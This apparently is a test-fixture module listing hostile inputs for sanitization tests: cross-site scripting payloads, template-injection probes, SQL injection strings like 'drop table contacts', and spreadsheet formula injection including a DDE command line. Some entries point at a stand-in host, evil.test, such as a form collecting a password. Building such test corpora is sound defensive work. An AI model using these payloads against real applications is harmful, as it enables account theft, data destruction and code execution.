/** Texts that try to become something else than text. */

export const scripts = [
  "<script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</title><svg onload=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  "` onerror=alert(1) x=`",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<a href=javascript:alert(1)>x</a>",
  "<form action=//evil.test><input name=password>",
  "<base href=//evil.test>",
  "<meta http-equiv=refresh content='0;url=//evil.test'>",
  "<style>@import '//evil.test'</style>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<\0script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#x3c;script&#x3e;alert(1)",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "＜script＞alert(1)＜/script＞",
  "[click](javascript:alert(1))",
  "![x](x onerror=alert(1))",
  "[x](https://evil.test)",
  "<https://evil.test>",
  "https://evil.test/login",
  "www.evil.test",
  "eve@evil.test",
  "[x]: javascript:alert(1)",
  "# Heading\n\n- list\n\n> quote\n\n```\ncode",
  "%%CONTENT%% %%UNSUBSCRIBE%%",
  "$& $1 $` $'",
];

/** 9,973 × 99,991: the product appears only where one of these was read as a template. */
export const PRODUCT = "997210243";
export const templates = [
  "{{ 9973 | times: 99991 }}",
  "{{9973|times:99991}}",
  "{%assign a=99991%}{{9973|times:a}}",
  "{%- if true -%}{{ 9973 | times: 99991 }}{%- endif -%}",
  "{% for i in (1..1) %}{{ i | plus: 997210242 }}{% endfor %}",
  "}}{{ 9973 | times: 99991 }}{{",
  "%}{{ 9973 | times: 99991 }}{%",
  "{% raw %}{{ 9973 | times: 99991 }}",
  "{{ workspace.name }}{{ contact.email }}{{ 9973 | times: 99991 }}",
  "{% render 'x' %}{% include 'x' %}{{ 9973 | times: 99991 }}",
  "{{ '9973' | append: '{{ 9973 | times: 99991 }}' }}",
  // Joined by two values next to each other.
  "{{ 9973 | times: 99991 ",
  "}}",
];

export const sqls = [
  "'; drop table contacts; --",
  "' or '1'='1",
  "\\'; select pg_sleep(10); --",
  "1); delete from contacts; --",
  "$1",
  "$$; drop table contacts; $$",
  "%' or 1=1 --",
  "{a,b}",
  '{"a":"b"}',
];

export const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  '=HYPERLINK("//evil.test")',
];

export const corpus = [...scripts, ...templates, ...sqls, ...formulas];
